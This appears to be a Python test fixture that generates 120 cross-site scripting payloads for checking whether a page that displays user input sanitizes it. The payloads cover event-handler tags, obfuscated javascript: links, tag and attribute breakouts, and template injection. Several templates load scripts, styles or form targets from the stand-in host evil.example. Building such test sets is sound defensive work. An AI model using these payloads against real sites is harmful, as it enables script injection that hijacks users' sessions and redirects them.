"""Texts by which somebody might try to run a script, or slip a mark of their own, into a page that shows what people typed (R12)."""

import itertools

RUN = "window.owned=1"
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter")
CARRIERS = ("img src=x", "svg", "body", "details open", "video src=x", "iframe", "input autofocus", "marquee")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "javascript&colon;",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,<script>",
    "//evil.example/",
    "%6a%61vascript:",
)
LINKS = ("[words]({}{})", "![words]({}{})", "<{}{}>", "[words]: {}{}\n\n[words]", '<a href="{}{}">words</a>', "| a |\n|-|\n| [b]({}{}) |")
TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<<script>{}//<</script>",
    "<script src=//evil.example/x.js></script><!--{}-->",
    "<style>@import'//evil.example/{}';</style>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<object data=//evil.example/{}></object>",
    "<form action=//evil.example/{}><input type=submit></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></mglyph></math>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% debug %}}<script>{}</script>",
    "```\n</code></pre><script>{}</script>\n```",
    "    </code></pre><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\u202e>tpircs<{}",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "[^1]\n\n[^1]: <script>{}</script>",
    '[^"><script>{}</script>]: note',
)


def payloads() -> list[str]:
    """120 of them, each another text."""
    carried = [f"<{carrier} {event}={RUN}>" for carrier, event in itertools.product(CARRIERS, EVENTS)]
    links = [link.format(scheme, RUN) for link, scheme in itertools.product(LINKS, SCHEMES)]
    tags = [tag.format(RUN) for tag in TAGS]
    return [*tags, *links, *carried[::2]]
